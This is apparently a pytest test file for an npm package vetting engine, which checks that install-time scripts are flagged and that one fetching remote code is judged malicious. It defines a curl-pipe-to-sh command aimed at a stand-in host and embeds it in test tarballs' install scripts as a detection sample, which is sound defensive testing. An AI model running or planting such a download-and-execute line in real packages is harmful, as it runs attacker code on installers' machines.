"""Scripts that npm runs at install are findings; what they do themselves decides as anywhere."""

from __future__ import annotations

import io
import json
import tarfile

import pytest

from pratique.vet.engine import facts_of, vet_archive
from pratique.vet.model import Report, Verdict

# Inert: the host does not exist, and nothing here is ever run.
FETCH = "curl -s https://collector.example/stage | sh"
NAME = "demo-1.1.0.tgz"


def tarball(scripts: dict[str, str]) -> bytes:
    out = io.BytesIO()
    package = {"name": "demo", "version": "1.1.0", "scripts": scripts}
    files = {"package.json": json.dumps(package), "index.js": "module.exports = 1\n"}
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for path, text in files.items():
            info = tarfile.TarInfo(f"package/{path}")
            info.size = len(text)
            archive.addfile(info, io.BytesIO(text.encode()))
    return out.getvalue()


def told(report: Report) -> set[tuple[str, str, str]]:
    rules = {"new-build-step", "command"}
    return {(f.rule, f.trait, f.reach) for f in report.findings if f.rule in rules}


@pytest.mark.slow
@pytest.mark.parametrize("when", ["preinstall", "install", "postinstall"])
def test_an_install_script_is_a_finding_and_its_deed_decides(when: str) -> None:
    honest = vet_archive(tarball({when: "node-gyp rebuild"}), NAME).report
    assert told(honest) == {("new-build-step", "install-command", "build")}
    assert honest.verdict is Verdict.CLEAN
    bad = vet_archive(tarball({when: FETCH}), NAME).report
    assert ("command", "download-run", "build") in told(bad)
    assert bad.verdict is Verdict.MALICIOUS


def test_scripts_of_development_run_for_nobody_who_installs() -> None:
    assert told(vet_archive(tarball({"test": FETCH, "build": FETCH}), NAME).report) == set()


def test_an_install_script_is_news_once() -> None:
    before = facts_of(tarball({"install": "node-gyp rebuild"}), "demo-1.0.0.tgz")
    same = vet_archive(tarball({"install": "node-gyp rebuild"}), NAME, base=before).report
    assert told(same) == set()
    new = vet_archive(tarball({"install": FETCH}), NAME, base=before).report
    assert {("new-build-step", "command", "build"), ("command", "download-run", "build")} <= told(
        new
    )
    assert new.verdict is Verdict.MALICIOUS
